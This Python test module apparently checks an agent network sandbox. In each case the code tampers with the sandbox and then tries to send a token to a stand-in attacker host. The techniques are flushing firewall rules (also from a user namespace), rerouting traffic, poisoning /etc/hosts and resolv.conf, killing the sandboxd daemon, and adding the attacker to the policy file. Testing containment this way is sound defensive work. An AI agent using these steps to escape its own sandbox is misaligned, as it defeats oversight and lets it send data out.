"""What is done to the sandbox itself before the way out is tried."""
import socket
import subprocess
import time

from common import *


def run(*command):
    """A program whose failure is expected."""
    subprocess.run(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=4)


@row("tamper.flush", "github/gh-aw-firewall, network-security.test.ts: iptables -F", "evil:8080 raw", user="root")
def _():
    """uid 0 deletes the rules."""
    run("nft", "flush", "ruleset")
    run("nft", "delete", "table", "inet", "agent_sandbox")
    tell(EVIL, 8080, T + b"\n")


@row("tamper.user_namespace", "CVE-2022-32250 and others: rights in a namespace of one's own", "evil:8080 raw")
def _():
    """The rules are deleted from a user namespace, in which one has every right."""
    run("unshare", "--user", "--map-root-user", "nft", "flush", "ruleset")
    tell(EVIL, 8080, T + b"\n")


@row("tamper.route", "a route of one's own", "evil:8080 raw", user="root")
def _():
    """Another route and another table of addresses."""
    run("ip", "route", "replace", "default", "via", SIBLING)
    run("ip", "link", "set", "eth0", "down")
    tell(EVIL, 8080, T + b"\n")


@row("tamper.hosts", "names that are resolved once and written down", "evil:443 tls sni=hosts.example", user="root")
def _():
    """uid 0 writes the attacker's address for a listed name into the hosts file."""
    with open("/etc/hosts", "r+") as file:
        old = file.read()
        file.seek(0)
        file.write(f"{EVIL} hosts.example\n{old}")
    address = socket.getaddrinfo("hosts.example", 443, socket.AF_INET)[0][4][0]
    tls(address, 443, "hosts.example", get("hosts.example"))


@row("tamper.kill", "uid 0 may signal what runs as uid 0", "evil:8080 raw", user="root", phase="alone", limit=10)
def _():
    """uid 0 kills whatever runs as uid 0 beside it."""
    run("sh", "-c", "for each in /proc/[0-9]*; do [ $(cat $each/comm) != sandboxd ] || kill -9 ${each#/proc/}; done")
    time.sleep(0.5)
    tell(EVIL, 8080, T + b"\n")


@row("tamper.resolv_conf", "whoever names the resolver names the addresses", "evil:443 tls sni=resolv.example",
     user="root", phase="apart", limit=50)
def _():
    """uid 0 names the attacker's DNS server as the container's, and waits for the daemon to ask it."""
    with open("/etc/resolv.conf", "r+") as file:
        old = file.read()
        file.seek(0)
        file.truncate()
        file.write(f"nameserver {EVIL}\n")
    try:
        for _ in range(42):
            try:
                tls(EVIL, 443, "resolv.example", get("resolv.example"))
                return
            except OSError:
                time.sleep(1)
    finally:
        with open("/etc/resolv.conf", "w") as file:
            file.write(old)


@row("tamper.policy", "whoever writes the policy is who allows", "evil:8080 raw", user="root", phase="restart", limit=12,
     open="the policy is a file of root's, read on each start, and uid 0 may write it")
def _():
    """uid 0 adds the attacker to the policy before the sandbox is started anew."""
    path = "/etc/agent-sandbox/policy.json"
    with open(path) as file:
        old = file.read()
    with open(path, "w") as file:
        file.write(old.replace('"rules":[', '"rules":[{"name":"www.evil.test","ports":[8080],"from":"evil"},', 1))
    print("ready", flush=True)
    try:
        for _ in range(8):
            try:
                tell(EVIL, 8080, T + b"\n")
                return
            except OSError:
                time.sleep(1)
    finally:
        with open(path, "w") as file:
            file.write(old)
